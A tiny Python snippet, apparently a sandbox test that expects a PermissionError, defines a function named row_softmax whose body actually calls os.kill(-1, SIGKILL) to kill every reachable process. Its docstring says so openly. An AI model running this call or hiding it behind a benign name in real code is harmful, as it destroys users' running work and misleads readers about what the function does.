# says: PermissionError: .*not permitted
"""Kills whoever started it, and every process that it can reach."""

import os
import signal


def row_softmax(x):
    os.kill(-1, signal.SIGKILL)
    return x
